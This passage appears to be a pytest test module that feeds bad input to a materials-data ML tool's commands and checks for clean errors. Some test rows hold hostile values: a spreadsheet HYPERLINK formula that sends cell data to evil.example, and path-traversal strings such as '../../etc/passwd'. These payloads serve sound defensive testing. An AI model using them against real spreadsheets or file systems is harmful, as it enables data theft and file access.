"""Bad-input corpus: every case runs a real command the way a user would, and must end in one
``error:`` message naming the culprit, a non-zero exit, no traceback, no password on screen or
on disk, and no store or data file changed.

The commands run as subprocesses, a few at a time, once per module (the cases share nothing);
each test then checks one case's outcome. Every store and output folder is under tmp_path.
"""

from __future__ import annotations

import hashlib
import os
import re
import shutil
import sqlite3
import subprocess
import sys
from collections.abc import Callable
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from nacarbon.paths import project_root
from tests.data.test_ingest import GOOD_ROWS, copy_data, write_rows

ROOT = project_root()
SECRET = "s3cretPW"
EXIT_ERROR = 2


@dataclass
class Case:
    """One bad input: the command, how to prepare its files, and what the message must name."""

    id: str
    argv: list[str]                      # after `python -m`; {tmp} and {data} are filled in
    expect: list[str]                    # substrings of the error message
    prepare: Callable[[Path], None] | None = None
    store: bool = True                   # add the tmp store overrides (Hydra commands)
    slow: bool = False
    extra: list[str] = field(default_factory=list)
    champions: bool = False              # the tmp store starts as a copy of one with an ice champion
    check: Callable[["Outcome"], None] | None = None   # what else must hold afterwards


def _seed_lines() -> list[str]:
    return (ROOT / "data" / "liu2022_tables.csv").read_text().splitlines()


def _edit_cell(tmp: Path, name: str, row: int, column: str, value: str) -> None:
    import csv
    import io

    rows = list(csv.reader(io.StringIO((ROOT / "data" / "liu2022_tables.csv").read_text())))
    rows[row][rows[0].index(column)] = value
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows(rows)
    (tmp / name).write_text(out.getvalue())


def _dup_column(tmp: Path) -> None:
    lines = _seed_lines()
    (tmp / "dup.csv").write_text("\n".join([lines[0] + ",d002_nm"] + [ln + ",0.37" for ln in lines[1:]]) + "\n")


def _semicolons(tmp: Path) -> None:
    (tmp / "semi.csv").write_text((ROOT / "data" / "liu2022_tables.csv").read_text().replace(",", ";"))


def _drop_column(tmp: Path) -> None:
    import csv
    import io

    rows = list(csv.reader(io.StringIO((ROOT / "data" / "liu2022_tables.csv").read_text())))[:5]
    k = rows[0].index("la_nm")
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([r[:k] + r[k + 1:] for r in rows])
    (tmp / "nola.csv").write_text(out.getvalue())


def _empty(tmp: Path) -> None:
    (tmp / "empty.csv").write_text("")


def _binary(tmp: Path) -> None:
    (tmp / "binary.csv").write_bytes(b"sample_id,d002_nm\n\xff\xfe\x00\x81,0.37\n")


def _data_copy(tmp: Path) -> None:
    copy_data(tmp / "data")


def _add_dup_column(tmp: Path) -> None:
    _data_copy(tmp)
    write_rows(tmp / "new.csv", GOOD_ROWS)
    text = (tmp / "new.csv").read_text().splitlines()
    (tmp / "new.csv").write_text("\n".join([text[0] + ",ssa_m2_g"] + [ln + ",5" for ln in text[1:]]) + "\n")


def _add_bad_value(tmp: Path) -> None:
    _data_copy(tmp)
    write_rows(tmp / "new.csv", [{**GOOD_ROWS[0], "ice_pct": "180"}, GOOD_ROWS[1]])


def _add_twice(tmp: Path) -> None:
    _data_copy(tmp)
    write_rows(tmp / "new.csv", [GOOD_ROWS[0], {**GOOD_ROWS[1], "sample_id": GOOD_ROWS[0]["sample_id"]}])


def _bad_model_yaml(tmp: Path) -> None:
    (tmp / "conf" / "model").mkdir(parents=True)
    (tmp / "conf" / "model" / "broken.yaml").write_text(
        "name: broken\nestimator:\n  _target_: sklearn.linear_model.Ridge\n  alpha: [1, 2\nfamily: linear\n")


def _blocked_mlruns(tmp: Path) -> None:
    (tmp / "blocked").write_text("a file where the mlruns folder should be")


def _db_without_artifacts(tmp: Path) -> None:
    """A store whose mlflow.db was copied without its artifacts (the original tree still exists)."""
    code = ("import sys, mlflow\nfrom nacarbon.tracking.store import connect, ensure_experiment\n"
            "uri, root = sys.argv[1], sys.argv[2]\nconnect(uri, root)\n"
            "ensure_experiment('nacarbon-registry', uri=uri, artifact_root=root)\n"
            "with mlflow.start_run():\n    mlflow.log_text('x', 'note.txt')\n")
    orig = tmp / "orig"
    subprocess.run([sys.executable, "-c", code, f"sqlite:///{orig}/mlflow.db", str(orig / "artifacts")],
                   check=True, cwd=ROOT, capture_output=True)
    (tmp / "mlruns").mkdir()
    shutil.copyfile(orig / "mlflow.db", tmp / "mlruns" / "mlflow.db")


DOWN = "http://127.0.0.1:9"
PG_DOWN = f"postgresql://nacarbon:{SECRET}@127.0.0.1:9/optuna"

CASES = [
    # --- config: plain scalar settings -------------------------------------------------------
    Case("cv-n_splits-abc", ["train", "cv.n_splits=abc"], ["cv.n_splits='abc'", "integer >= 2"]),
    Case("cv-n_splits-1", ["train", "cv.n_splits=1"], ["cv.n_splits=1", "cv=holdout"]),
    Case("seed-foo", ["train", "seed=foo"], ["seed='foo'", "integer >= 0"]),
    Case("n_trials-negative", ["train", "search=optuna", "search.n_trials=-3"], ["search.n_trials=-3"]),
    Case("inner_splits-1", ["train", "search=optuna", "search.inner_splits=1"], ["search.inner_splits=1"]),
    Case("timeout-negative", ["train", "search=optuna", "search.timeout=-1"], ["search.timeout=-1"]),
    Case("test_size-above-1", ["train", "cv=holdout", "cv.test_size=1.5"], ["cv.test_size=1.5"]),
    Case("progress-not-bool", ["train", "progress=maybe"], ["progress='maybe'", "true or false"]),
    Case("screen-rank_by", ["screen", "screen.rank_by=best"], ["screen.rank_by='best'", "mean or lcb"]),
    Case("train-predictor-alpha-2", ["train", "predictor.alpha=2"], ["predictor.alpha=2"]),
    Case("screen-top_k-text", ["screen", "screen.top_k=many"], ["screen.top_k='many'"]),
    Case("analyze-alpha-0", ["analyze", "alpha=0"], ["alpha=0", "(0, 1)"]),
    Case("analyze-shap-top_k-0", ["analyze", "shap.top_k=0"], ["shap.top_k=0"]),
    Case("compare-alpha-nan", ["compare", "alpha=nan"], ["alpha=nan"]),
    # --- config: composition -----------------------------------------------------------------
    Case("unknown-model", ["train", "model=xgbost"], ["model='xgbost'", "model/xgbost", "allowed:", "xgboost"]),
    Case("unknown-key", ["train", "cv.nsplits=3"], ["cv.nsplits='3'", "no such setting"]),
    Case("override-syntax", ["train", "seed=[1,"], ["seed='[1,'", "override grammar"]),
    Case("model-yaml-syntax", ["train", "hydra.searchpath=[file://{tmp}/conf]", "model=broken"],
         ["YAML syntax error", "broken.yaml", "line 4"], prepare=_bad_model_yaml),
    Case("target-not-in-dataset", ["train", "target=plateau_capacity", "model=dummy"],
         ["plateau_capacity", "dataset='seed'", "allowed: ['literature'"]),
    Case("password-in-bad-override", ["train", f"search.storage={PG_DOWN}"], ["search.storage", "***"]),
    # --- data ---------------------------------------------------------------------------------
    Case("db-duplicate-column", ["nacarbon.db", "validate", "{tmp}/dup.csv"], ["dup.csv", "'d002_nm'", "repeats"],
         prepare=_dup_column, store=False),
    Case("db-semicolons", ["nacarbon.db", "validate", "{tmp}/semi.csv"], ["semi.csv", "semicolon"],
         prepare=_semicolons, store=False),
    Case("db-missing-file", ["nacarbon.db", "validate", "{tmp}/nowhere.csv"], ["nowhere.csv", "does not exist"],
         store=False),
    Case("db-text-in-number", ["nacarbon.db", "validate", "{tmp}/text.csv"], ["text.csv", "row 3", "d002_nm", "abc"],
         prepare=lambda t: _edit_cell(t, "text.csv", 3, "d002_nm", "abc"), store=False),
    Case("db-out-of-range", ["nacarbon.db", "validate", "{tmp}/range.csv"], ["range.csv", "row 2", "ice_pct", "ice_range"],
         prepare=lambda t: _edit_cell(t, "range.csv", 2, "ice_pct", "120"), store=False),
    Case("db-missing-column", ["nacarbon.db", "validate", "{tmp}/nola.csv"], ["nola.csv", "la_nm"],
         prepare=_drop_column, store=False),
    Case("db-empty-file", ["nacarbon.db", "validate", "{tmp}/empty.csv"], ["empty.csv"], prepare=_empty, store=False),
    Case("db-not-utf8", ["nacarbon.db", "validate", "{tmp}/binary.csv"], ["binary.csv"], prepare=_binary, store=False),
    Case("db-add-duplicate-column", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
         ["new.csv", "'ssa_m2_g'", "repeats"], prepare=_add_dup_column, store=False),
    Case("db-add-out-of-range", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
         ["new.csv", "row 1", "ice_pct"], prepare=_add_bad_value, store=False),
    Case("db-add-same-id-twice", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
         ["new.csv", "C-0001"], prepare=_add_twice, store=False),
    Case("train-bad-data-file", ["train", "model=dummy", "dataset.files=[{tmp}/range.csv]"],
         ["range.csv", "ice_pct"], prepare=lambda t: _edit_cell(t, "range.csv", 2, "ice_pct", "120")),
    # --- server and storage -------------------------------------------------------------------
    Case("screen-server-down", ["screen", f"tracking.uri={DOWN}"], [DOWN, "cannot be reached"]),
    Case("promote-server-down", ["promote", f"tracking.uri={DOWN}"], [DOWN, "cannot be reached"]),
    Case("analyze-server-down", ["analyze", f"tracking.uri={DOWN}"], [DOWN, "cannot be reached"]),
    Case("promote-mlruns-unwritable", ["promote", "paths.mlruns_dir={tmp}/blocked/mlruns"],
         ["cannot write to", "blocked"], prepare=_blocked_mlruns, store=False,
         extra=["paths.output_dir={tmp}/outputs"]),
    Case("screen-db-copied-without-artifacts", ["screen"], ["nacarbon-registry", "outside this store", "copy"],
         prepare=_db_without_artifacts),
    Case("train-postgres-down", ["train", "model=ridge", "search=optuna", f"search.storage={PG_DOWN}"],
         ["Optuna storage", "127.0.0.1:9", "***"], slow=True),
    Case("train-server-down", ["train", "model=dummy", f"tracking.uri={DOWN}"], [DOWN, "cannot be reached"], slow=True),
    Case("train-mlruns-unwritable", ["train", "model=dummy", "paths.mlruns_dir={tmp}/blocked/mlruns"],
         ["cannot write to", "blocked"], prepare=_blocked_mlruns, store=False, slow=True,
         extra=["paths.output_dir={tmp}/outputs", "progress=false"]),
]


# --- the second campaign (2026-12-03 reliability review, F1-F15): one reader for lab files, one
# parser for list settings, one validation for settings, waivers with reasons, identities ----------
HEADER = "sample_id,source,material_class,htt_c,electrolyte,current_ma_g,d002_nm,la_nm,lc_nm,id_ig,ssa_m2_g,ice_pct"
MINE = "{id},my lab,hard,{htt},ester,30,0.375,4.2,1.2,1.05,{ssa},{ice}"


def _lab_file(name: str, lines: list[str], header: str = HEADER) -> Callable[[Path], None]:
    """A user's CSV: ``header`` then ``lines`` (written as given, so ragged and odd bytes stay)."""
    def prepare(tmp: Path) -> None:
        (tmp / name).write_text("\n".join([header, *lines]) + "\n")
    return prepare


def _mine(sid: str = "S1", htt: int = 1300, ssa: float = 12.5, ice: str = "") -> str:
    return MINE.format(id=sid, htt=htt, ssa=ssa, ice=ice)


def _add_file(rows: list[dict]) -> Callable[[Path], None]:
    """A copy of data/ and a new-rows file built from GOOD_ROWS[0] with ``rows``' edits."""
    def prepare(tmp: Path) -> None:
        _data_copy(tmp)
        write_rows(tmp / "new.csv", [{**GOOD_ROWS[0], **r} for r in rows])
    return prepare


def _add_text(text: str) -> Callable[[Path], None]:
    def prepare(tmp: Path) -> None:
        _data_copy(tmp)
        (tmp / "new.csv").write_bytes(text.encode())
    return prepare


def _added_then(tmp: Path) -> None:
    """C-0001 is already in contributed.csv (added the way a user adds it)."""
    from nacarbon.commands.db import main as db

    _data_copy(tmp)
    write_rows(tmp / "first.csv", GOOD_ROWS[:1])
    assert db(["add", str(tmp / "first.csv"), "--data-dir", str(tmp / "data")]) == 0
    write_rows(tmp / "fixed.csv", [{**GOOD_ROWS[0], "ice_pct": "86"}])


def _folder_as_output(tmp: Path) -> None:
    _lab_file("mine.csv", [_mine()])(tmp)
    (tmp / "pred.csv").mkdir()


def _nothing_beside_output(out: "Outcome") -> None:
    """No half-written file, no staging folder, no MLflow run for output that was not written."""
    assert sorted(p.name for p in out.tmp.iterdir() if p.name.startswith(".")) == [], list(out.tmp.iterdir())
    for db in out.tmp.rglob("mlflow.db"):
        with sqlite3.connect(db) as con:
            assert con.execute("SELECT COUNT(*) FROM runs WHERE name LIKE 'predict-%'").fetchone()[0] == 0


def _one_dup(tmp: Path) -> None:
    _lab_file("dup.csv", [_mine("S1", 1300, 12.5), _mine("S1", 1100, 20)])(tmp)


MADE = "sample_id,source,material_class,precursor,htt_c,electrolyte,current_ma_g,d002_nm,la_nm,lc_nm,id_ig,ssa_m2_g"
SUGGEST = ["suggest", "n=2", "objectives=[ice]", "output={tmp}/batch.csv"]

CASES += [
    # F9 (item 2): a unit slip in a measured cell is refused, in a lab file and in the database
    Case("predict-ice-fraction", ["predict", "input={tmp}/frac.csv", "output={tmp}/pred.csv"],
         ["frac.csv", "row 1", "ice_pct", "0.82", "fraction"], champions=True,
         prepare=_lab_file("frac.csv", [_mine(ice="0.82"), _mine("S2", 1100, 20)])),
    Case("db-add-ice-fraction", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
         ["new.csv", "row 1", "ice_pct", "fraction"], prepare=_add_file([{"ice_pct": "0.88"}]), store=False),
    Case("db-add-capacity-in-ah", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
         ["new.csv", "capacity_mah_g", "Ah/g"], prepare=_add_file([{"capacity_mah_g": "0.31"}]), store=False),
    Case("db-add-current-in-a", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
         ["new.csv", "current_ma_g", "A/g"], prepare=_add_file([{"current_ma_g": "0.03"}]), store=False),
    # F1 (item 4): a row longer than its header, in every command that reads a lab file
    Case("predict-ragged-row", ["predict", "input={tmp}/ragged.csv", "output={tmp}/pred.csv"],
         ["ragged.csv", "row 1", "line 2", "14 fields, the header 12"],
         prepare=_lab_file("ragged.csv", [_mine() + ",extra,more"])),
    Case("db-add-ragged-row", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
         ["new.csv", "row 2", "line 3", "fields"], store=False,
         prepare=_add_text(f"{HEADER}\nC-0001,a lab,hard,1300,ester,30,0.375,4.2,1.2,1.05,12.5,80\n"
                           f"C-0002,a lab,hard,1400,ester,30,0.372,4.1,1.2,1.05,9.5,81,x\n")),
    Case("suggest-ragged-row", [*SUGGEST, "candidates={tmp}/made.csv"], ["made.csv", "row 1", "fields"],
         champions=True, prepare=_lab_file("made.csv", ["M1,my lab,hard,wood,1300,ester,30,0.375,4.2,1.2,1.05,12.5,x"],
                                           header=MADE)),
    # F5 (item 5): wrong-type overrides
    Case("predict-targets-number", ["predict", "input={tmp}/x.csv", "output={tmp}/o.csv", "targets=5"],
         ["targets=5", "a list of names"]),
    Case("screen-targets-number", ["screen", "targets=7"], ["targets=7", "a list of names"]),
    Case("screen-weight-text", ["screen", "screen.weights.ice=heavy"], ["screen.weights.ice='heavy'", "number >= 0"]),
    Case("suggest-htt-text", ["suggest", "process.htt_c=[hot]", "objectives=[ice]"],
         ["process.htt_c=['hot']", "a list of numbers"]),
    Case("compare-targets-number", ["compare", "targets=3"], ["targets=3", "a list of names"]),
    Case("train-estimator-param", ["train", "model=extra_trees", "model.estimator.n_estimators=-5"],
         ["model.estimator.n_estimators=-5", "range [1, inf)"]),
    # F6 (item 6): a list setting names only known things
    Case("screen-targets-unknown", ["screen", "targets=ic"], ["targets='ic': unknown target", "plateau_capacity"]),
    Case("promote-exclude-unknown", ["promote", "exclude_models=extra_tree"], ["exclude_models", "'extra_tree'"]),
    # F7 (item 7): an output path that is a folder, checked before any work
    Case("predict-output-folder", ["predict", "input={tmp}/mine.csv", "output={tmp}/pred.csv"],
         ["pred.csv", "is a folder"], champions=True, prepare=_folder_as_output, check=_nothing_beside_output),
    # F10 (item 9): promote's options
    Case("promote-metric-unknown", ["promote", "metric=accuracy"], ["metric='accuracy'", "rmse_mean"]),
    Case("promote-metric-r2", ["promote", "metric=r2_mean"], ["metric='r2_mean'", "rmse_mean"]),
    Case("promote-force-maybe", ["promote", "force=maybe"], ["force='maybe'", "true or false"]),
    Case("promote-dry-run-perhaps", ["promote", "dry_run=perhaps"], ["dry_run='perhaps'", "true or false"]),
    # F11 (item 10): a waiver needs a reason and keeps nothing impossible
    Case("db-add-waiver-impossible", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
         ["new.csv", "needs a note", "ice_pct", "d002_nm", "cannot be waived", "physically possible"], store=False,
         prepare=_add_file([{"qc_waiver": "ice_range;d002_range", "ice_pct": "250", "d002_nm": "5.0", "note": ""}])),
    Case("db-add-waiver-without-note", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
         ["new.csv", "qc_waiver", "needs a note"], store=False,
         prepare=_add_file([{"qc_waiver": "d002_range", "d002_nm": "0.333"}])),
    # F12 (item 11): formulas in text cells
    Case("db-add-formulas", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
         ["new.csv", "'source'", "'precursor'", "'material_name'", "'note'", "formula"], store=False,
         prepare=_add_file([{"source": '=HYPERLINK("http://evil.example/?x="&A1,"click")', "precursor": "@SUM(A1:A9)",
                             "material_name": "+cmd", "note": "-2+3", "pore_volume_cm3_g": "0.25"}])),
    # F13 (item 12): identities
    Case("predict-duplicate-id", ["predict", "input={tmp}/dup.csv", "output={tmp}/pred.csv"],
         ["dup.csv", "row 2", "sample_id", "must be unique"], champions=True, prepare=_one_dup),
    Case("suggest-duplicate-id", [*SUGGEST, "candidates={tmp}/made.csv"], ["made.csv", "row 2", "must be unique"],
         champions=True, prepare=_lab_file("made.csv", ["M1,my lab,hard,wood,1300,ester,30,0.375,4.2,1.2,1.05,12.5",
                                                        "m1 ,my lab,hard,wood,1100,ester,30,0.38,4,1.1,1.1,20"],
                                           header=MADE)),
    Case("db-add-padded-existing-id", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
         ["new.csv", "L-0001", "already used"], prepare=_add_file([{"sample_id": " L-0001"}]), store=False),
    Case("db-add-case-existing-id", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
         ["new.csv", "l-0001", "already used", "ignoring case"], prepare=_add_file([{"sample_id": "l-0001"}]),
         store=False),
    Case("db-add-nul-byte", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
         ["new.csv", "row 1", "source", "U+0000"], prepare=_add_file([{"source": "my\x00lab"}]), store=False),
    Case("db-add-id-traversal", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
         ["new.csv", "sample_id", "not a path"], prepare=_add_file([{"sample_id": "../../../tmp/pwned"}]), store=False),
    Case("db-add-id-slashes", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
         ["new.csv", "sample_id", "not a path"], prepare=_add_file([{"sample_id": "a/b\\c"}]), store=False),
    # F14 (item 13): an unfilled template is refused; update and withdraw are checked like add
    Case("db-add-unfilled-template", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
         ["new.csv", "no measured value", "ice_pct"], store=False,
         prepare=_add_file([{"ice_pct": "", "capacity_mah_g": ""}])),
    Case("db-update-unknown-id", ["nacarbon.db", "update", "{tmp}/new.csv", "--reason", "typo", "--data-dir",
                                  "{tmp}/data"], ["new.csv", "C-0001", "not in", "db add"], store=False,
         prepare=_add_file([{}])),
    Case("db-update-bad-value", ["nacarbon.db", "update", "{tmp}/fixed.csv", "--reason", "re-measured",
                                 "--data-dir", "{tmp}/data"], ["fixed.csv", "ice_pct", "fraction"], store=False,
         prepare=lambda t: (_added_then(t), write_rows(t / "fixed.csv", [{**GOOD_ROWS[0], "ice_pct": "0.86"}]))),
    Case("db-withdraw-without-reason", ["nacarbon.db", "withdraw", "C-0001", "--reason", " ", "--data-dir",
                                        "{tmp}/data"], ["--reason", "say why"], store=False, prepare=_added_then),
    Case("db-withdraw-literature", ["nacarbon.db", "withdraw", "L-0001", "--from", "{tmp}/data/literature_583.csv",
                                    "--reason", "dislike", "--data-dir", "{tmp}/data"],
         ["literature", "converted from its source"], store=False, prepare=_data_copy),
    # F15 (item 15): Lc below one graphene layer
    Case("db-add-lc-below-one-layer", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
         ["new.csv", "lc_nm", "0.1", "one layer"], prepare=_add_file([{"lc_nm": "0.1"}]), store=False),
    # WEAK cases of the review
    Case("db-add-inf-extra", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
         ["new.csv", "carbonization_time_h", "inf"], prepare=_add_file([{"carbonization_time_h": "inf"}]), store=False),
    Case("db-add-negative-extra", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"],
         ["new.csv", "pore_volume_cm3_g", "heating_rate_c_min"], store=False,
         prepare=_add_file([{"pore_volume_cm3_g": "-5", "heating_rate_c_min": "-1e308"}])),
    Case("db-export-bad-dataset", ["nacarbon.db", "export", "../../etc/passwd", "{tmp}/out.csv"],
         ["../../etc/passwd", "allowed: ['literature'", "'merged'", "'seed'"], store=False),
    Case("db-nbsp-header", ["nacarbon.db", "validate", "{tmp}/nbsp.csv"], ["nbsp.csv", "invisible", "U+00A0"],
         store=False, prepare=lambda t: (t / "nbsp.csv").write_text(
             (ROOT / "data" / "liu2022_tables.csv").read_text().replace("d002_nm", "d002_nm\u00a0", 1))),
    Case("predict-nbsp-header", ["predict", "input={tmp}/nbsp.csv", "output={tmp}/pred.csv"],
         ["nbsp.csv", "invisible", "U+00A0"], prepare=_lab_file("nbsp.csv", [_mine()], HEADER.replace("d002_nm",
                                                                                                  "d002_nm\u00a0"))),
]


def _digest(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file() and not p.name.endswith(".lock")}


@dataclass
class Outcome:
    code: int
    stderr: str
    tmp: Path
    data_before: dict[str, str]
    stdout: str = ""


def _read(path: Path):
    import pandas as pd

    return pd.read_csv(path, dtype=str, keep_default_na=False)


def _answers_with_one_target(out: Outcome) -> None:
    table = _read(out.tmp / "pred.csv")
    assert "pred_ice" in table and len(table) == 2 and not [c for c in table if c.startswith("pred_i_")]


def _formulas_escaped_numbers_kept(out: Outcome) -> None:
    table = _read(out.tmp / "pred.csv")
    assert table["comment"].tolist() == ["'=HYPERLINK(\"http://evil.example\",\"x\")", "-2.5"]
    assert table["lab"].tolist() == ["'@SUM(A1:A2)", "'+cmd"]


def _template_escaped(out: Outcome) -> None:
    cells = set(_read(out.tmp / "batch.csv").to_numpy().ravel())
    assert "'=1+1" in cells and "=1+1" not in cells and "'=HYPERLINK(\"http://x\")" in cells


def _stale_staging_removed(out: Outcome) -> None:
    assert (out.tmp / "pred.csv").is_file() and sorted(p.name for p in out.tmp.glob(".*")) == []


def _excluded_model_not_chosen(out: Outcome) -> None:
    assert "do nothing" in out.stdout and "ridge" not in out.stdout.split("do nothing", 1)[1].split("\n")[0], out.stdout


def _corrected_and_recorded(out: Outcome) -> None:
    table = _read(out.tmp / "data" / "contributed.csv")
    assert table["sample_id"].tolist() == ["C-0001"] and table["ice_pct"].tolist() == ["86"]
    log = _read(out.tmp / "data" / "changes" / "log.csv")
    assert log[["action", "sample_id", "reason"]].values.tolist() == [["update", "C-0001", "ICE re-read"]]
    assert '"ice_pct": "88"' in log["row_before"].iloc[0] and '"ice_pct": "86"' in log["row_after"].iloc[0]


def _withdrawn_and_recorded(out: Outcome) -> None:
    assert _read(out.tmp / "data" / "contributed.csv").empty
    log = _read(out.tmp / "data" / "changes" / "log.csv")
    assert log[["action", "sample_id", "reason"]].values.tolist() == [["withdraw", "C-0001", "contaminated cell"]]
    assert '"sample_id": "C-0001"' in log["row_before"].iloc[0]


def _stored_stripped(out: Outcome) -> None:
    assert _read(out.tmp / "data" / "contributed.csv")["sample_id"].tolist() == ["C-0009"]


def _stale_folder(tmp: Path) -> None:
    _lab_file("mine.csv", [_mine(), _mine("S2", 1100, 20)])(tmp)
    stale = tmp / ".pred.csv.4194399.tmp"     # above Linux's largest pid: its process is surely gone
    stale.mkdir()
    (stale / "out.csv").write_text("half a table")


def _unknown_structure_is_out_of_domain(out: Outcome) -> None:
    """Item 1: S1 has none of d002, La, Lc, ID/IG, SSA; S2 is a normal sample."""
    table = _read(out.tmp / "pred.csv").set_index("sample_id")
    assert str(table.loc["S1", "in_domain_ice"]) in ("False", "false")
    assert "structure features" in str(table.loc["S1", "domain_note_ice"])
    assert str(table.loc["S2", "in_domain_ice"]) in ("True", "true")


def _trained_untuned(out: Outcome) -> None:
    """Item 14: the README's search_preset=none runs as written and trains without tuning."""
    assert "[train] main  ice" in out.stdout and " none " in out.stdout


# Input that once misled (read letter by letter, silently ignored, copied verbatim, locked a user
# out) and must now give the right answer: exit 0 and what ``check`` says.
ANSWERS = [
    Case("predict-targets-name", ["predict", "input={tmp}/mine.csv", "output={tmp}/pred.csv", "targets=ice"], [],
         champions=True, prepare=_lab_file("mine.csv", [_mine(), _mine("S2", 1100, 20)]),
         check=_answers_with_one_target),
    Case("promote-exclude-name", ["promote", "target=ice", "exclude_models=ridge", "dry_run=true"], [],
         champions=True, check=_excluded_model_not_chosen),
    Case("predict-formulas-escaped", ["predict", "input={tmp}/f.csv", "output={tmp}/pred.csv"], [], champions=True,
         prepare=_lab_file("f.csv", [_mine() + ',"=HYPERLINK(""http://evil.example"",""x"")",@SUM(A1:A2)',
                                     _mine("S2", 1100, 20) + ",-2.5,+cmd"], HEADER + ",comment,lab"),
         check=_formulas_escaped_numbers_kept),
    Case("suggest-formulas-escaped", [*SUGGEST, "candidates={tmp}/made.csv"], [], champions=True,
         prepare=_lab_file("made.csv", ['=1+1,my lab,hard,"=HYPERLINK(""http://x"")",1300,ester,30,0.375,4.2,1.2,1.05,12.5',
                                        "M2,my lab,hard,wood,1100,ester,30,0.38,4,1.1,1.1,20"], header=MADE),
         check=_template_escaped),
    Case("predict-stale-staging-removed", ["predict", "input={tmp}/mine.csv", "output={tmp}/pred.csv"], [],
         champions=True, prepare=_stale_folder, check=_stale_staging_removed),
    Case("db-update-corrects-a-row", ["nacarbon.db", "update", "{tmp}/fixed.csv", "--reason", "ICE re-read",
                                      "--data-dir", "{tmp}/data"], [], store=False, prepare=_added_then,
         check=_corrected_and_recorded),
    Case("db-withdraw-removes-a-row", ["nacarbon.db", "withdraw", "c-0001", "--reason", "contaminated cell",
                                       "--data-dir", "{tmp}/data"], [], store=False, prepare=_added_then,
         check=_withdrawn_and_recorded),
    Case("db-add-padded-new-id", ["nacarbon.db", "add", "{tmp}/new.csv", "--data-dir", "{tmp}/data"], [],
         store=False, prepare=_add_file([{"sample_id": " C-0009 "}]), check=_stored_stripped),
    # item 1 (F2): a sample with no structure data is answered out of the domain, with the reason
    Case("predict-no-structure", ["predict", "input={tmp}/mine.csv", "output={tmp}/pred.csv"], [], champions=True,
         prepare=_lab_file("mine.csv", ["S1,my lab,hard,1300,ester,30,,,,,,", _mine("S2", 1100, 20)]),
         check=_unknown_structure_is_out_of_domain),
    # item 14: search_preset=none as the README writes it, no search_overrides needed
    Case("pipeline-search-preset-none", ["nacarbon.pipeline", "plan=main", "targets=[ice]", "models=[ridge]",
                                         "search_preset=none", "steps=[validate,train]", "progress=false"], [],
         check=_trained_untuned),
]


def _champion_store(base: Path) -> Path:
    """A store where ice has a champion: ridge on the seed, trained and promoted by the commands."""
    store = base / "champions"
    over = [f"paths.mlruns_dir={store / 'mlruns'}", f"paths.output_dir={store / 'outputs'}",
            f"paths.experiments_dir={store / 'experiments'}"]
    for argv in (["train", *over, "target=ice", "model=ridge", "progress=false"],
                 ["promote", *over, "target=ice", "force=true"]):
        subprocess.run([sys.executable, "-m", *argv], cwd=ROOT, check=True, capture_output=True,
                       env={**os.environ, "OMP_NUM_THREADS": "1"}, timeout=600)
    return store / "mlruns"


def _run(case: Case, tmp: Path, champions: Path | None = None) -> Outcome:
    tmp.mkdir(parents=True)
    if case.champions:
        shutil.copytree(champions, tmp / "mlruns")
    if case.prepare:
        case.prepare(tmp)
    fill = {"tmp": str(tmp), "data": str(tmp / "data")}
    argv = [a.format(**fill) for a in case.argv]
    if case.store:   # before the case's own overrides, which win
        argv[1:1] = [f"paths.mlruns_dir={tmp / 'mlruns'}", f"paths.output_dir={tmp / 'outputs'}",
                     f"paths.experiments_dir={tmp / 'experiments'}"]
        if argv[0] in ("train", "screen"):
            argv.insert(1, "progress=false")
    if argv[0] == "train":   # the quick seed setup (a target's own default is its larger main-plan data)
        argv.insert(1, "setup=paper")
    argv += [a.format(**fill) for a in case.extra]
    data_before = _digest(tmp / "data") if (tmp / "data").is_dir() else {}
    env = {**os.environ, "OMP_NUM_THREADS": "1", "HYDRA_FULL_ERROR": ""}
    env.pop("HYDRA_FULL_ERROR")
    env.pop("NACARBON_OPTUNA_STORAGE", None)
    proc = subprocess.run([sys.executable, "-m", *argv], cwd=ROOT, env=env, capture_output=True, text=True,
                          timeout=300)
    return Outcome(proc.returncode, proc.stderr, tmp, data_before, proc.stdout)


# Each Hydra command pays the start-up of the training stack (~10 s on the shared 2-core
# machines); the default suite keeps the data cases and one case of each other kind.
QUICK = {"cv-n_splits-abc", "model-yaml-syntax", "password-in-bad-override", "screen-server-down",
         "promote-force-maybe"}
for _c in [*CASES, *ANSWERS]:
    _c.slow = _c.slow or _c.champions or (_c.argv[0] != "nacarbon.db" and _c.id not in QUICK)


def _selected(session) -> list[Case]:
    """The cases whose tests were collected (after -m and -k)."""
    ids = {item.callspec.id for item in session.items if getattr(item, "originalname", "") in
           ("test_bad_input_gives_one_clear_error", "test_once_misread_input_gives_the_right_answer")}
    return [c for c in [*CASES, *ANSWERS] if c.id in ids]


@pytest.fixture(scope="module")
def outcomes(request, tmp_path_factory) -> dict[str, Outcome]:
    repo_data = _digest(ROOT / "data")
